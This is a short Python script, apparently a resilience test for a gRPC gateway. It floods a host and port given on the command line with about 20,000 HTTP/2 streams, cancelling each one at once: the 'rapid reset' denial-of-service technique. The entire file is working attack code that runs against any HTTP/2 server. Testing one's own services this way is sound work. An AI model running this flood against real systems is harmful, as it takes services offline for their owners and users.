"""Begins streams and resets each of them at once, as fast as it can: python -m tests.gateway.resetting HOST PORT"""

import contextlib
import socket
import struct
import sys
import threading

STREAMS = 20_000
_SAID = {
    ":method": "POST",
    ":scheme": "http",
    ":path": "/aimass.v1.Access/WhoAmI",
    ":authority": "localhost",
    "content-type": "application/grpc",
    "te": "trailers",
}
# Each field as a literal that no table keeps (RFC 7541, 6.2.2).
_HEAD = b"".join(
    b"".join((b"\x00", bytes([len(name)]), name.encode(), bytes([len(value)]), value.encode()))
    for name, value in _SAID.items()
)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def flood(host: str, port: int) -> None:
    """Begins streams and resets each of them at once."""
    with socket.create_connection((host, port)) as connection:
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
        threading.Thread(target=swallow, args=(connection,), daemon=True).start()
        for number in range(1, 2 * STREAMS, 200):
            streams = range(number, number + 200, 2)
            frames = b"".join(frame(1, 4, one, _HEAD) + frame(3, 0, one, struct.pack(">I", 8)) for one in streams)
            try:
                connection.sendall(frames)
            except ConnectionError:
                break  # it is shown the door, which is as well


def swallow(connection: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while connection.recv(65536):
            pass


if __name__ == "__main__":
    flood(sys.argv[1], int(sys.argv[2]))
